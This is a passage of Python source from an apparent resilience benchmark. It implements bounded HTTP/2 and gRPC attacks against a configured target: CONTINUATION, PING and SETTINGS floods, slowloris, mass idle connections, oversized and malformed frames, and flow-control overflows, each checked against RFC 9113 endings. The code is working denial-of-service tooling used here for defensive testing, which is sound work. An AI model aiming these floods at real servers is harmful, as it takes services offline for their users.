"""The attacks, one function each, bounded in count and time, and the registry `ATTACKS`.

Each function takes a `Context` (the target and whether the run is `--quick`) and returns an
`Outcome`: what it sent, how its connections ended, whether that ending is the one RFC 9113
names (None where it names none) and the row's own targets. Memory, CPU, probes and crashes are
measured around it by the runner (`bench/hostile_load.py`).
"""

from __future__ import annotations

import contextlib
import http.client
import selectors
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

import hpack
from hyperframe.frame import ContinuationFrame, RstStreamFrame

from hostile.targets import HuggyTarget, Target, grpc_call, rotation_monitor
from hostile.wire import (
    MAX_WINDOW,
    PING,
    SMALL_BUFFER,
    WINDOW_UPDATE,
    Connection,
    data_frame,
    ending_summary,
    grpc_message,
    headers_frame,
    http_burst,
    open_socket,
    parse_http_answer,
    ping_frame,
    raw_frame,
    request_fields,
    send_bounded,
    settings_frame,
    stateless_block,
    window_update,
)

KIB, MIB = 1024, 1 << 20
REFUSAL_BUDGET = 64 * KIB
"""The most of a request without a valid key that should be read before it is refused."""
VIOLATION_HOLD_S = 3.0
"""How long a protocol-violation row keeps its connection open, watching how it ends."""
HEADERS_GRACE_S = 1.0
"""How long a request without a valid key waits after its headers for a refusal before its
body follows: a server that checks the key there has answered by then."""
PACE_S = 0.01
"""The pause after each 16 KiB of a body whose refusal is being timed: the bytes written
before it came are counted to within about what a server reads in this time."""


@dataclass
class Context:
    target: Target
    quick: bool

    def scale(self, full: float, quick: float) -> float:
        return quick if self.quick else full

    @property
    def authority(self) -> str:
        return "{}:{}".format(*self.target.grpc_address)

    def fields(self, path: bytes | str | None = None,
               metadata: Sequence[tuple[str, str]] | None = None) -> list[tuple[bytes, bytes]]:
        """A call's header fields (the target's method and valid metadata unless given)."""
        return request_fields(path or self.target.method, self.authority,
                              self.target.metadata if metadata is None else metadata)

    def connect(self, **options: Any) -> Connection:
        """A connection to the target's gRPC port; with reading on, once its SETTINGS came."""
        connection = Connection(self.target.grpc_address, **options)
        if options.get("read", True):
            connection.wait_settings(5.0)
        return connection


@dataclass
class Outcome:
    """What an attack did and saw (see the module docstring)."""

    sent: str
    ending: str
    ending_ok: bool | None = None
    notes: str = ""
    checks: dict[str, bool] = field(default_factory=dict)
    details: dict[str, Any] = field(default_factory=dict)
    judge: Callable[[dict[str, Any]], dict[str, bool]] | None = None
    """Row targets on the probes during the attack (given their results)."""


@dataclass(frozen=True)
class Attack:
    name: str
    summary: str
    targets: tuple[str, ...]
    run: Callable[[Context], Outcome]
    window: tuple[float, float]
    """Seconds over which the probes during the attack are spread (full run, --quick)."""
    latency_during: bool = True
    """Whether the latency targets apply during the attack (not where the attack is itself a
    load of valid requests that the probes queue behind)."""


def mb(size: float) -> str:
    return f"{size / 1e6:.1f} MB" if size >= 1e5 else f"{size / 1e3:.1f} KB"


def rfc_ending(connections: Sequence[Connection], codes: set[str], stream_error: bool = False,
               close_ok: bool = False) -> bool:
    """Whether every connection ended as RFC 9113 says: GOAWAY with one of `codes`, or where
    `stream_error`, RST_STREAM with one of them (a stream error may be treated as a connection
    error, RFC 9113 5.4.1); with `close_ok`, a close without GOAWAY also (an invalid preface)."""
    for connection in connections:
        seen = connection.seen
        if seen.goaway in codes:
            continue
        if stream_error and any(code in codes for code in seen.rst_codes):
            continue
        if close_ok and seen.goaway is None and seen.closed in ("EOF", "reset"):
            continue
        return False
    return True


def with_stream(frame: bytes, stream: int) -> bytes:
    """`frame` (one serialized frame) on `stream` instead."""
    return frame[:5] + struct.pack(">I", stream) + frame[9:]


def wait_window(connection: Connection, stream: int, size: int, timeout_s: float) -> bool:
    """Whether the peer's windows let `size` bytes go on `stream` within `timeout_s`."""
    return connection.wait(lambda: connection.send_window(stream) >= size or connection.ended,
                           timeout_s) and not connection.ended


def send_call(connection: Connection, stream: int, block: bytes, message: bytes,
              end_stream: bool = True, timeout_s: float = 2.0) -> bool:
    """One call's HEADERS and DATA (within the peer's windows); False if the windows stayed
    shut or the connection ended."""
    if not wait_window(connection, stream, len(message), timeout_s):
        return False
    connection.spend_window(stream, len(message))
    return connection.send(headers_frame(stream, block)
                           + data_frame(stream, message, end_stream=end_stream))


def hold(seconds: float, connections: Sequence[Connection] = ()) -> None:
    """Keep `connections` open for `seconds` (less once every one of them is closed)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if connections and all(c.seen.closed for c in connections):
            return
        time.sleep(0.05)


def close_all(connections: Sequence[Connection]) -> None:
    for connection in connections:
        connection.close()


# floods


def continuation_flood(ctx: Context) -> Outcome:
    """A HEADERS without END_HEADERS, then empty CONTINUATION frames as fast as they go."""
    bound = ctx.scale(15, 4)
    connection = ctx.connect()
    connection.send(headers_frame(1, stateless_block(ctx.fields()), end_headers=False))
    batch = ContinuationFrame(1).serialize() * 10_000
    start, opening = time.monotonic(), connection.sent
    blocked = False
    while time.monotonic() - start < bound and not connection.ended:
        if not connection.send(batch, block_s=min(2.0, bound)):
            blocked = not connection.ended
            break
    elapsed = time.monotonic() - start
    frames = (connection.sent - opening) // 9
    hold(1.0, [connection])
    ending = ending_summary([connection])
    close_all([connection])
    return Outcome(
        sent=f"{frames / 1e6:.2f} M empty CONTINUATION in {elapsed:.1f} s"
             + ("; peer stopped reading" if blocked else ""),
        ending=ending, details={"frames": frames, "seconds": elapsed,
                                "connection": connection.describe()})


def _flood_unread(ctx: Context, frame: bytes, what: str) -> Outcome:
    """`frame` again and again from a client that never reads (a small receive buffer), until
    the bound or until the peer stops reading for 3 s."""
    bound = ctx.scale(15, 4)
    connection = Connection(ctx.target.grpc_address, read=False, rcvbuf=SMALL_BUFFER)
    batch = frame * 1000
    start, opening = time.monotonic(), connection.sent
    stalled_after = None
    while time.monotonic() - start < bound and not connection.ended:
        if not connection.send(batch, block_s=min(3.0, bound)):
            if not connection.ended:
                stalled_after = connection.sent - opening
            break
    elapsed = time.monotonic() - start
    frames = (connection.sent - opening) // len(frame)
    time.sleep(1.0)
    unread = connection.inspect_unread(budget_s=5.0, max_bytes=256 * MIB)
    ending = ending_summary([connection])
    if not connection.ended:
        ending = (f"open at bound, unread ({unread['tcp_state']}; "
                  f"{mb(unread['drained_bytes'])} waiting)")  # type: ignore[arg-type]
    close_all([connection])
    sent = f"{frames / 1e6:.2f} M {what} ({mb(frames * len(frame))}) in {elapsed:.1f} s"
    if stalled_after is not None:
        sent += f"; peer stopped reading after {mb(stalled_after)}"
    return Outcome(sent=sent, ending=ending,
                   details={"frames": frames, "seconds": elapsed, "stalled_after_bytes":
                            stalled_after, "unread": unread, "connection": connection.describe()})


def ping_flood_unread(ctx: Context) -> Outcome:
    return _flood_unread(ctx, ping_frame(), "PING")


def settings_flood_unread(ctx: Context) -> Outcome:
    return _flood_unread(ctx, settings_frame({0x4: 65_535}), "SETTINGS")


def ping_flood_read(ctx: Context) -> Outcome:
    """PINGs as fast as they go from a client that reads every ACK."""
    bound = ctx.scale(12, 4)
    connection = ctx.connect()
    batch = ping_frame() * 1000
    start, opening = time.monotonic(), connection.sent
    while time.monotonic() - start < bound and not connection.ended:
        if not connection.send(batch, block_s=min(2.0, bound)):
            break
    elapsed = time.monotonic() - start
    frames = (connection.sent - opening) // 17
    hold(1.0, [connection])
    ending = ending_summary([connection])
    close_all([connection])
    return Outcome(
        sent=f"{frames / 1e6:.2f} M PING in {elapsed:.1f} s, "
             f"{connection.seen.ping_acks / 1e6:.2f} M ACKs read",
        ending=ending, details={"frames": frames, "acks": connection.seen.ping_acks,
                                "seconds": elapsed, "connection": connection.describe()})


# requests that cost the server more than the client


def _unknown_path(ctx: Context) -> Outcome:
    """Calls to an unknown method whose 4,000-byte `:path` (bytes 0xFF) sits in the HPACK
    table, so that each call is a 13-byte frame; nothing read."""
    count, bound = int(ctx.scale(5000, 500)), ctx.scale(15, 5)
    encoder = hpack.Encoder()
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/" + b"\xff" * 3999),
              (b":authority", ctx.authority.encode())]
    first = headers_frame(1, encoder.encode(fields, huffman=False), end_stream=True)
    repeat = headers_frame(1, encoder.encode(fields, huffman=False), end_stream=True)
    connection = Connection(ctx.target.grpc_address, read=False, rcvbuf=SMALL_BUFFER)
    start = time.monotonic()
    connection.send(first)
    calls, stalled = 1, False
    while calls < count and time.monotonic() - start < bound and not connection.ended:
        batch = b"".join(with_stream(repeat, 2 * (calls + i) + 1)
                         for i in range(min(100, count - calls)))
        if not connection.send(batch, block_s=3.0):
            stalled = not connection.ended
            break
        calls += min(100, count - calls)
    elapsed = time.monotonic() - start
    time.sleep(2.0)
    unread = connection.inspect_unread(budget_s=5.0, max_bytes=512 * MIB)
    answered = [s for s in connection.seen.streams.values() if s.answered_at is not None]
    per_answer = (sum(s.header_block_bytes for s in answered) / len(answered)) if answered else 0
    ending = ending_summary([connection])
    close_all([connection])
    return Outcome(
        sent=f"{calls} calls, {len(repeat)} B each after the first, in {elapsed:.1f} s"
             + ("; peer stopped reading" if stalled else ""),
        ending=ending,
        notes=f"{len(answered)} answers read back, {per_answer:,.0f} B of headers each",
        details={"calls": calls, "frame_bytes": len(repeat), "answers_read": len(answered),
                 "answer_header_bytes_mean": per_answer, "unread": unread,
                 "connection": connection.describe()})


def unknown_path(ctx: Context) -> Outcome:
    return _unknown_path(ctx)


def _big_messages(ctx: Context, metadata: Sequence[tuple[str, str]] | None) -> Outcome:
    """4 calls whose messages declare 50 MB and never end: after `HEADERS_GRACE_S` for a
    refusal at the headers, DATA as fast as the windows allow (the first MiB of each in 16 KiB
    steps `PACE_S` apart, to see when a refusal comes)."""
    streams, size = (1, 3, 5, 7), int(ctx.scale(50_000_000, 8_000_000))
    bound = ctx.scale(15, 5)
    connection = ctx.connect(sndbuf=SMALL_BUFFER)
    block = stateless_block(ctx.fields(metadata=metadata))
    connection.send(b"".join(headers_frame(stream, block) for stream in streams))
    connection.wait(lambda: all(connection.seen.streams.get(s) is not None for s in streams)
                    or connection.ended, HEADERS_GRACE_S)
    sent = dict.fromkeys(streams, 0)
    refused_after: dict[int, int] = {}
    chunk = bytes(16 * KIB)
    prefix = grpc_message(b"", declared=size)
    start = time.monotonic()
    while time.monotonic() - start < bound and not connection.ended:
        progressed = False
        for stream in streams:
            seen = connection.seen.streams.get(stream)
            if seen is not None and seen.answered_at is not None:
                refused_after.setdefault(stream, sent[stream])
                continue
            if sent[stream] >= size + 5:
                continue
            room = min(connection.send_window(stream), len(chunk), size + 5 - sent[stream],
                       connection.seen.peer_settings.get(0x5, 16_384))
            if room <= 0:
                continue
            payload = (prefix + chunk)[:room] if sent[stream] == 0 else chunk[:room]
            connection.spend_window(stream, room)
            if not connection.send(data_frame(stream, payload), block_s=2.0):
                break
            sent[stream] += room
            progressed = True
        if all(s in refused_after or sent[s] >= size + 5 for s in streams):
            break
        if not progressed:
            connection.wait(lambda: connection.ended, 0.05)
        elif min(sent.values()) < MIB:
            time.sleep(PACE_S)
    elapsed = time.monotonic() - start
    hold(3.0, [connection])
    for stream in streams:
        seen = connection.seen.streams.get(stream)
        if seen is not None and seen.answered_at is not None:
            refused_after.setdefault(stream, sent[stream])
    statuses = Counter(connection.seen.streams[s].grpc_status or connection.seen.streams[s].rst
                       for s in streams if s in connection.seen.streams)
    ending = ending_summary([connection])
    if statuses:
        ending += "; " + ", ".join(f"grpc-status {code} x{n}" for code, n in statuses.items())
    close_all([connection])
    worst = max(refused_after.values()) if refused_after else None
    notes = (f"refused after {max(refused_after.values()) / KIB:,.0f} KiB at most "
             f"({len(refused_after)}/4 refused)" if refused_after else "none refused")
    return Outcome(
        sent=f"4 calls declaring {mb(size)}, {mb(sum(sent.values()))} sent in {elapsed:.1f} s",
        ending=ending, notes=notes,
        details={"sent_per_stream": sent, "bytes_before_refusal": refused_after,
                 "statuses": dict(statuses), "connection": connection.describe(),
                 "worst_bytes_before_refusal": worst})


def big_message(ctx: Context) -> Outcome:
    return _big_messages(ctx, None)


def big_message_wrong_key(ctx: Context) -> Outcome:
    outcome = _big_messages(ctx, (("authorization", "Bearer wrong-key"),))
    refused = outcome.details["bytes_before_refusal"]
    outcome.checks["refused within 64 KiB"] = (len(refused) == 4 and
                                               max(refused.values()) <= REFUSAL_BUDGET)
    return outcome


def http_body_wrong_key(ctx: Context) -> Outcome:
    """`POST /v1/act` with a wrong key and a 1,000,000-byte body, sent (after
    `HEADERS_GRACE_S` for a refusal at the headers) in 16 KiB steps `PACE_S` apart from a
    socket with a small send buffer: the bytes written before the refusal came."""
    assert ctx.target.http_address is not None
    length = 1_000_000
    sock = open_socket(ctx.target.http_address, sndbuf=SMALL_BUFFER)
    head = (f"POST /v1/act HTTP/1.1\r\nHost: {ctx.target.http_address[0]}\r\n"
            f"Authorization: Bearer wrong-key\r\nContent-Type: application/json\r\n"
            f"Content-Length: {length}\r\nConnection: close\r\n\r\n").encode()
    start = time.monotonic()
    send_bounded(sock, head, 2.0)  # a few hundred bytes: always fits
    received, written = b"", 0
    chunk = b" " * (16 * KIB)

    def answered(wait_s: float) -> bool:
        nonlocal received
        selector = selectors.DefaultSelector()
        selector.register(sock, selectors.EVENT_READ)
        try:
            while selector.select(wait_s):
                try:
                    data = sock.recv(65536)
                except BlockingIOError:
                    break
                except OSError:
                    return True
                if not data:
                    return True
                received += data
                wait_s = 0.0
        finally:
            selector.close()
        return bool(received)

    refused_at = 0 if answered(HEADERS_GRACE_S) else None
    while refused_at is None and written < length:
        step, error = send_bounded(sock, chunk[:length - written], 2.0)
        written += step
        if error is not None or answered(PACE_S):
            refused_at = written
    if not received:
        answered(10.0)
    parsed = parse_http_answer(received)
    status = parsed[0].status if parsed else None
    elapsed = time.monotonic() - start
    with contextlib.suppress(OSError):
        sock.close()
    checks = {"refused within 64 KiB": refused_at is not None and refused_at <= REFUSAL_BUDGET}
    return Outcome(
        sent=f"a {length:,}-byte body with a wrong key, {mb(written)} written",
        ending=f"HTTP {status}" if status else "no answer",
        notes=(f"{status} after {refused_at / KIB:,.0f} KiB of the body" if refused_at is not None
               else f"answered {status} only after the whole body"),
        checks=checks, details={"status": status, "bytes_before_refusal": refused_at,
                                "written": written, "seconds": elapsed})


def open_streams(ctx: Context) -> Outcome:
    """40 connections x 256 calls whose requests never go past their headers."""
    count, bound = int(ctx.scale(40, 10)), ctx.scale(15, 4)
    block = stateless_block(ctx.fields())
    connections = []
    start = time.monotonic()
    for _ in range(count):
        connection = ctx.connect()
        connection.send(b"".join(headers_frame(2 * i + 1, block) for i in range(256)))
        connections.append(connection)
    hold(bound - (time.monotonic() - start), connections)
    refused = sum(c.seen.rst_codes.get("REFUSED_STREAM", 0) for c in connections)
    statuses = Counter(f"grpc-status {s.grpc_status}" for c in connections
                       for s in c.seen.streams.values() if s.grpc_status is not None)
    ending = ending_summary(connections)
    if statuses:
        ending += "; " + ", ".join(f"{text} x{n}" for text, n in statuses.items())
    close_all(connections)
    sent = sum(c.sent for c in connections)
    return Outcome(sent=f"{count} conns x 256 streams, {len(block)}-byte blocks, {mb(sent)}",
                   ending=ending, notes=f"{refused} streams refused",
                   details={"connections": [c.describe() for c in connections[:3]],
                            "refused": refused, "statuses": dict(statuses),
                            "sent_bytes": sent})


def window_zero(ctx: Context) -> Outcome:
    """256 valid calls from a client whose stream windows are 0 (its answers cannot be sent),
    then a 257th."""
    bound = ctx.scale(20, 5)
    connection = ctx.connect(initial_window=0)
    block = stateless_block(ctx.fields())
    message = grpc_message(ctx.target.body)
    start = time.monotonic()
    calls = 0
    for index in range(256):
        if not send_call(connection, 2 * index + 1, block, message):
            break
        calls += 1
    hold(2.0, [connection])
    send_call(connection, 513, block, message)
    hold(bound - (time.monotonic() - start), [connection])
    streams = connection.seen.streams
    held = sum(1 for s in range(1, 513, 2) if s in streams and not streams[s].ended
               and streams[s].rst is None)
    unanswered = sum(1 for s in range(1, 513, 2) if s not in streams)
    extra = streams.get(513)
    extra_text = ("no answer" if extra is None else extra.rst or f"grpc-status {extra.grpc_status}")
    ending = ending_summary([connection])
    close_all([connection])
    return Outcome(
        sent=f"{calls} calls with stream windows 0, then a 257th",
        ending=ending,
        notes=f"at the bound: {held} answers held, {unanswered} not begun; 257th: {extra_text}",
        details={"calls": calls, "held": held, "unanswered": unanswered, "extra": extra_text,
                 "connection": connection.describe()})


def idle_connections(ctx: Context) -> Outcome:
    """5,000 connections that send nothing and one that sends the preface and SETTINGS, then
    nothing, held 55 s: which the server closes, and when."""
    count, bound = int(ctx.scale(5000, 300)), ctx.scale(55, 8)
    selector = selectors.DefaultSelector()
    sockets = []
    start = time.monotonic()
    for index in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.connect_ex(ctx.target.grpc_address)
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, index)
        sockets.append(sock)
    handshaked = ctx.connect()
    connected = 0
    closed_at: dict[int, float] = {}
    while time.monotonic() - start < bound:
        for key, events in selector.select(timeout=0.5):
            sock, index = key.fileobj, key.data
            assert isinstance(sock, socket.socket)
            if events & selectors.EVENT_WRITE:
                connected += sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
                selector.modify(sock, selectors.EVENT_READ, index)
                continue
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                closed_at[index] = time.monotonic() - start
                selector.unregister(sock)
    selector.close()
    for sock in sockets:
        sock.close()
    idle_end = ending_summary([handshaked])
    closed_after = handshaked.describe()["closed_after_s"]
    close_all([handshaked])
    times = sorted(closed_at.values())
    median = f", median after {times[len(times) // 2]:.1f} s" if times else ""
    return Outcome(
        sent=f"{count} silent connections ({connected} connected) + 1 after SETTINGS, "
             f"{bound:.0f} s",
        ending=f"silent: {len(closed_at)}/{count} closed by peer{median}; "
               f"after SETTINGS: {idle_end}" + (f" at {closed_after} s" if closed_after else ""),
        details={"count": count, "connected": connected, "closed": len(closed_at),
                 "closed_times": times[:10] + times[-10:],
                 "handshaked": handshaked.describe()})


def _many_keys_body() -> bytes:
    """An act body with 40,000 keys (`obs` and k00000...k39998), the last one repeated."""
    parts = ['"obs":[' + ",".join(["0.125"] * 59) + "]"]
    parts += [f'"k{index:05d}":0' for index in range(39_999)]
    parts.append('"k39998":0')
    return ("{" + ",".join(parts) + "}").encode()


def json_keys_grpc(ctx: Context) -> Outcome:
    body = _many_keys_body()
    start = time.monotonic()
    code = grpc_call(ctx.target.grpc_address, ctx.target.method, body, ctx.target.metadata,
                     timeout_s=30.0)
    elapsed = time.monotonic() - start
    checks = ({"4xx (INVALID_ARGUMENT) within 50 ms": code == "INVALID_ARGUMENT"
               and elapsed <= 0.05} if isinstance(ctx.target, HuggyTarget) else {})
    return Outcome(sent=f"1 call, {mb(len(body))}, 40,000 keys + 1 repeat",
                   ending=f"{code} after {elapsed * 1000:,.0f} ms",
                   notes=f"{code} in {elapsed * 1000:,.0f} ms", checks=checks,
                   details={"code": code, "seconds": elapsed, "bytes": len(body)})


def json_keys_http(ctx: Context) -> Outcome:
    assert ctx.target.http_address is not None
    body = _many_keys_body()
    connection = http.client.HTTPConnection(*ctx.target.http_address, timeout=30)
    headers = {"Content-Type": "application/json",
               **({"Authorization": f"Bearer {ctx.target.key}"} if ctx.target.key else {})}
    start = time.monotonic()
    try:
        connection.request("POST", "/v1/act", body=body, headers=headers)
        reply = connection.getresponse()
        reply.read()
        status: str = str(reply.status)
    except (OSError, http.client.HTTPException) as error:
        status = type(error).__name__
    finally:
        connection.close()
    elapsed = time.monotonic() - start
    return Outcome(sent=f"1 request, {mb(len(body))}, 40,000 keys + 1 repeat",
                   ending=f"{status} after {elapsed * 1000:,.0f} ms",
                   notes=f"{status} in {elapsed * 1000:,.0f} ms",
                   checks={"4xx within 50 ms": status.startswith("4") and elapsed <= 0.05},
                   details={"status": status, "seconds": elapsed, "bytes": len(body)})


def slowloris(ctx: Context) -> Outcome:
    """4,150 connections to HAProxy sending a request's headers a line every 5 s for 30 s."""
    assert ctx.target.http_address is not None
    count, bound = int(ctx.scale(4150, 400)), ctx.scale(30, 8)
    selector = selectors.DefaultSelector()
    start = time.monotonic()
    first = (f"POST /v1/act HTTP/1.1\r\nHost: {ctx.target.http_address[0]}\r\n"
             "Content-Type: application/json\r\n").encode()
    for index in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.connect_ex(ctx.target.http_address)
        selector.register(sock, selectors.EVENT_WRITE, index)
    opened_after = None
    connecting, started_lines = count, 0
    closed_at: dict[int, float] = {}
    answers: Counter[str] = Counter()
    next_line = start + 5.0
    line_number = 0
    while time.monotonic() - start < bound:
        for key, events in selector.select(timeout=0.25):
            sock, index = key.fileobj, key.data
            assert isinstance(sock, socket.socket)
            if events & selectors.EVENT_WRITE:
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    with contextlib.suppress(OSError):
                        sock.send(first)
                        started_lines += 1
                selector.modify(sock, selectors.EVENT_READ, index)
                connecting -= 1
                if connecting == 0:
                    opened_after = time.monotonic() - start
                continue
            try:
                data = sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                answers[data.split(b"\r\n", 1)[0].decode("latin-1")[:40]] += 1
            closed_at[index] = time.monotonic() - start
            selector.unregister(sock)
            sock.close()
        if time.monotonic() >= next_line:
            line_number += 1
            for key in list(selector.get_map().values()):
                with contextlib.suppress(OSError):
                    key.fileobj.send(f"X-Slow-{line_number}: 1\r\n".encode())  # type: ignore[union-attr]
            next_line += 5.0
    still_open = len(selector.get_map())
    for key in list(selector.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    selector.close()
    if opened_after is None:  # some connections never completed: judge the second half
        opened_after = bound / 2
    times = sorted(closed_at.values())

    def judge(during: dict[str, Any]) -> dict[str, bool]:
        late = [r for r in during.get("http", []) if r["t"] >= opened_after]
        return {"new request answered within 1 s": bool(late) and all(
            r["ok"] and r["ms"] <= 1000 for r in late)}

    return Outcome(
        sent=f"{count} connections, {started_lines} started a request, a header line each 5 s,"
             f" {bound:.0f} s",
        ending=f"{len(closed_at)} closed by peer" + (f" (first at {times[0]:.1f} s)" if times
                                                       else "") + f", {still_open} open at bound",
        notes=", ".join(f"{text} x{n}" for text, n in answers.items()),
        judge=judge,
        details={"count": count, "started": started_lines, "opened_after_s": opened_after,
                 "closed": len(closed_at), "answers": dict(answers),
                 "closed_times": times[:10] + times[-10:], "still_open": still_open})


def _concurrent(count: int) -> Callable[[Context], Outcome]:
    def attack(ctx: Context) -> Outcome:
        """`count` valid `POST /v1/act` at once, each on its own connection, while HAProxy's
        view of the replica is polled."""
        assert ctx.target.http_address is not None
        body = ctx.target.body
        request = (f"POST /v1/act HTTP/1.1\r\nHost: {ctx.target.http_address[0]}\r\n"
                   "Content-Type: application/json\r\nConnection: close\r\n"
                   + (f"Authorization: Bearer {ctx.target.key}\r\n" if ctx.target.key else "")
                   + f"Content-Length: {len(body)}\r\n\r\n").encode() + body
        size = count if not ctx.quick else count // 5
        stats_before = ctx.target.server_stats() if isinstance(ctx.target, HuggyTarget) else {}
        with rotation_monitor(ctx.target) as changes:
            answers = http_burst(ctx.target.http_address, request, size, 30.0)
            time.sleep(0.3)
        stats_after = ctx.target.server_stats() if isinstance(ctx.target, HuggyTarget) else {}
        went_down = sum(int(row.get("chkdown") or 0)
                        - int(stats_before.get(name, {}).get("chkdown") or 0)
                        for name, row in stats_after.items())
        outcomes: Counter[str] = Counter()
        proper_503 = 0
        for answer in answers:
            if answer.status is None:
                outcomes[answer.error or "no answer"] += 1
                continue
            outcomes[str(answer.status)] += 1
            if answer.status == 503 and "retry-after" in answer.headers and \
                    "json" in answer.headers.get("content-type", "") and \
                    answer.body.lstrip().startswith(b"{"):
                proper_503 += 1
        left = [change for change in changes
                if any(op != 2 or admin != 0 for _, op, admin in change["servers"])
                or not change["servers"]]
        times = sorted(a.elapsed_s for a in answers if a.elapsed_s is not None)
        if left:
            rotation = f"out of rotation at {left[0]['t']} s ({left[0]['servers'][:2]})"
        elif went_down:
            rotation = "out of rotation between two polls"
        else:
            rotation = "never out of rotation"
        if went_down:
            rotation += f", marked DOWN {went_down}x (HAProxy's chkdown)"
        checks = {f"{size} x 200": outcomes.get("200", 0) == size}
        if count >= 3000:
            checks = {"200 or JSON 503 + Retry-After":
                      outcomes.get("200", 0) + proper_503 == size,
                      "replica stays in rotation": not left and not went_down}
        return Outcome(
            sent=f"{size} requests at once",
            ending=", ".join(f"{k} x{v}" for k, v in sorted(outcomes.items())),
            notes=f"{rotation}; {proper_503} JSON 503 with Retry-After; slowest "
                  f"{times[-1]:.1f} s" if times else rotation,
            checks=checks,
            details={"outcomes": dict(outcomes), "proper_503": proper_503,
                     "rotation_changes": changes[:20], "marked_down": went_down,
                     "haproxy_stats_after": {name: {key: row.get(key) for key in (
                         "status", "chkdown", "downtime", "lastchg", "hrsp_5xx", "eresp",
                         "econ", "qmax", "smax")} for name, row in stats_after.items()},
                     "p50_s": times[len(times) // 2] if times else None,
                     "max_s": times[-1] if times else None})

    return attack


# protocol violations


def _violation(ctx: Context, build: Callable[[Connection], bytes], codes: set[str],
               stream_error: bool = False, close_ok: bool = False,
               preface: bool = True, what: str = "") -> Outcome:
    """Send what `build` makes on a fresh connection, then watch it for `VIOLATION_HOLD_S`."""
    connection = ctx.connect(preface=preface) if preface else Connection(
        ctx.target.grpc_address, preface=False)
    payload = build(connection)
    connection.send(payload)
    hold(VIOLATION_HOLD_S)
    ending = ending_summary([connection])
    first = connection.seen.streams.get(1)
    notes = ""
    if first is not None and first.grpc_status is not None:
        notes = f"stream 1 answered grpc-status {first.grpc_status}"
    close_all([connection])
    return Outcome(sent=what or f"{len(payload)} B", ending=ending,
                   ending_ok=rfc_ending([connection], codes, stream_error, close_ok),
                   notes=notes, details={"connection": connection.describe()})


def stream_window_overflow(ctx: Context) -> Outcome:
    block = stateless_block(ctx.fields())
    return _violation(ctx, lambda c: headers_frame(1, block) + window_update(1, MAX_WINDOW),
                      {"FLOW_CONTROL_ERROR"}, stream_error=True,
                      what="open call, WINDOW_UPDATE +2^31-1 on it")


def conn_window_overflow(ctx: Context) -> Outcome:
    return _violation(ctx, lambda c: window_update(0, MAX_WINDOW), {"FLOW_CONTROL_ERROR"},
                      what="WINDOW_UPDATE +2^31-1 on a full connection window")


def zero_window_increment(ctx: Context) -> Outcome:
    return _violation(ctx, lambda c: raw_frame(WINDOW_UPDATE, 0, 0, bytes(4)),
                      {"PROTOCOL_ERROR"}, what="WINDOW_UPDATE of 0 on the connection")


def ping_on_stream(ctx: Context) -> Outcome:
    return _violation(ctx, lambda c: raw_frame(PING, 0, 1, b"hostile!"), {"PROTOCOL_ERROR"},
                      what="PING on stream 1")


def rst_idle_stream(ctx: Context) -> Outcome:
    return _violation(ctx, lambda c: RstStreamFrame(1, error_code=8).serialize(),
                      {"PROTOCOL_ERROR"}, what="RST_STREAM on idle stream 1")


def _malformed_call(ctx: Context, fields: list[tuple[bytes, bytes]], what: str) -> Outcome:
    block = stateless_block(fields)
    message = grpc_message(ctx.target.body)
    return _violation(ctx, lambda c: headers_frame(1, block) + data_frame(1, message, True),
                      {"PROTOCOL_ERROR"}, stream_error=True, what=what)


def uppercase_header(ctx: Context) -> Outcome:
    return _malformed_call(ctx, [*ctx.fields(), (b"X-Upper", b"1")],
                           "a call with header name X-Upper")


def connection_header(ctx: Context) -> Outcome:
    return _malformed_call(ctx, [*ctx.fields(), (b"connection", b"keep-alive")],
                           "a call with connection: keep-alive")


def missing_pseudo(ctx: Context) -> Outcome:
    fields = [f for f in ctx.fields() if not f[0].startswith(b":")]
    return _malformed_call(ctx, fields, "a call without :method :scheme :path :authority")


def bad_preface(ctx: Context) -> Outcome:
    request = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    return _violation(ctx, lambda c: request, {"PROTOCOL_ERROR"}, close_ok=True, preface=False,
                      what="an HTTP/1.1 request instead of the preface")


def oversized_frame(ctx: Context) -> Outcome:
    """A HEADERS frame one byte over the peer's SETTINGS_MAX_FRAME_SIZE."""
    def build(connection: Connection) -> bytes:
        target = connection.seen.peer_settings.get(0x5, 16_384) + 1
        base = stateless_block(ctx.fields())
        size = target - len(base) - 7
        while True:  # the literal's length prefix grows with it: shrink until it fits exactly
            pad = hpack.Encoder().encode([(b"x-pad", b"a" * size, True)], huffman=False)
            if len(base) + len(pad) <= target:
                break
            size -= len(base) + len(pad) - target
        if len(base) + len(pad) != target:
            raise RuntimeError(f"cannot build a header block of exactly {target} bytes")
        return headers_frame(1, base + pad, end_stream=True)

    outcome = _violation(ctx, build, {"FRAME_SIZE_ERROR"}, what="HEADERS 1 B over the limit")
    limit = outcome.details["connection"]["peer_settings"].get("5", 16_384)
    outcome.sent = f"HEADERS of {limit + 1:,} B (limit {limit:,})"
    return outcome


def max_frame_size_zero(ctx: Context) -> Outcome:
    """SETTINGS_MAX_FRAME_SIZE = 0 (below RFC 9113's 16,384), then a valid call."""
    block = stateless_block(ctx.fields())
    message = grpc_message(ctx.target.body)

    def build(connection: Connection) -> bytes:
        connection.send(settings_frame({0x5: 0}))
        time.sleep(0.3)
        return headers_frame(1, block) + data_frame(1, message, end_stream=True)

    outcome = _violation(ctx, build, {"PROTOCOL_ERROR"},
                         what="SETTINGS_MAX_FRAME_SIZE=0, then a call")
    answered = outcome.details["connection"]["frames_received"].get("DATA", 0)
    outcome.notes = outcome.notes or ("the call got no answer" if not answered else "")
    return outcome


def any_path(ctx: Context) -> Outcome:
    """A valid message to a method the server does not serve."""
    connection = ctx.connect()
    block = stateless_block(ctx.fields(path="/not.a.Service/Method"))
    send_call(connection, 1, block, grpc_message(ctx.target.body))
